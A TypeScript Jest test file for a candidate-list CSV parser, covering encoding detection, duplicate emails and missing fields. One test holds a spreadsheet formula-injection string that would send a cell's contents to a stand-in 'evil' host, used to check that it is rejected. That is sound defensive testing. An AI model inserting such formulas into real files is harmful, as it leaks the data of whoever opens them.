import { parseCandidatesCsv } from './candidates-csv';

const gbk = (parts: Array<string | number[]>) =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : Buffer.from(p))));
const ZHANG_SAN_GBK = [0xd5, 0xc5, 0xc8, 0xfd]; // 张三

describe(parseCandidatesCsv.name, () => {
  it('reads UTF-8 (with a BOM from Excel or without) and UTF-16 with a BOM', () => {
    const expected = {
      candidates: [
        { name: '张三', email: 'zhang3@x.io' },
        { name: 'Li, Lei', email: 'lei@x.io' },
      ],
    };
    const csv = 'name,email\r\n张三,zhang3@x.io\r\n"Li, Lei",lei@x.io\r\n';
    expect(parseCandidatesCsv(Buffer.from(csv))).toEqual(expected);
    expect(parseCandidatesCsv(Buffer.from(`\uFEFF${csv}`))).toEqual(expected);
    expect(parseCandidatesCsv(Buffer.from(`\uFEFF${csv}`, 'utf16le'))).toEqual(expected);
    expect(parseCandidatesCsv(csv)).toEqual(expected);
  });

  it('refuses GBK, UTF-16 without a BOM and binary files, saying to save the CSV as UTF-8', () => {
    expect(parseCandidatesCsv(gbk(['name,email\n', ZHANG_SAN_GBK, ',zhang3@x.io\n']))).toEqual({
      error:
        'This CSV is not UTF-8 text (perhaps GBK or another legacy encoding, or a binary file). Save it as "CSV UTF-8 (Comma delimited)" (Excel: File → Save As) and upload it again.',
    });
    expect(parseCandidatesCsv(Buffer.from('name,email\nLi Lei,lei@x.io\n', 'utf16le'))).toEqual({
      error:
        'This CSV looks like UTF-16 text without a byte-order mark. Save it as "CSV UTF-8 (Comma delimited)" (Excel: File → Save As) and upload it again.',
    });
    expect(
      parseCandidatesCsv(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00])),
    ).toEqual({
      error: expect.stringMatching(/^This CSV looks binary \(it contains NUL bytes\); save the sheet as "CSV UTF-8/),
    });
  });

  it('refuses a file that lists one email twice, whatever its case, naming the rows', () => {
    expect(parseCandidatesCsv('name,email\nAlice,alice@x.io\nBob,bob@x.io\nAlice Wang,ALICE@x.io\n')).toEqual({
      error:
        'The same email appears more than once: rows 2, 4 (alice@x.io). Invite each person once: remove the extra rows or correct the addresses.',
    });
    const many = [
      'name,email',
      ...Array.from({ length: 7 }, (_, i) => [`A${i},a${i}@x.io`, `B${i},A${i}@X.io`]).flat(),
    ].join('\n');
    const { error } = parseCandidatesCsv(many) as { error: string };
    expect(error).toMatch(/^The same email appears more than once: rows 2, 3 \(a0@x\.io\); rows 4, 5 \(a1@x\.io\);/);
    expect(error).toMatch(/rows 10, 11 \(a4@x\.io\) and 2 more\./);
  });

  it('still explains a missing header or a row without an email', () => {
    expect(parseCandidatesCsv('a,b\nc,d\n')).toEqual({
      error: 'The CSV header must name the columns "name" and "email"; found: a, b.',
    });
    expect(parseCandidatesCsv('name,email\nNo Email,\n')).toEqual({
      error: 'Row 2: each candidate needs a name and a valid email (got "No Email", "").',
    });
  });

  it('refuses an email that only looks like one, such as a spreadsheet formula', () => {
    for (const email of ['=HYPERLINK("http://evil/"&A1)@example.com', 'a b@example.com', 'a@b', '@example.com']) {
      const parsed = parseCandidatesCsv(`name,email\nAda,"${email.replace(/"/g, '""')}"\n`);
      expect(parsed).toEqual({ error: expect.stringMatching(/^Row 2: each candidate needs a name and a valid email/) });
    }
    expect(parseCandidatesCsv('name,email\nAda,ada.l@example.com\n')).toEqual({
      candidates: [{ name: 'Ada', email: 'ada.l@example.com' }],
    });
  });
});
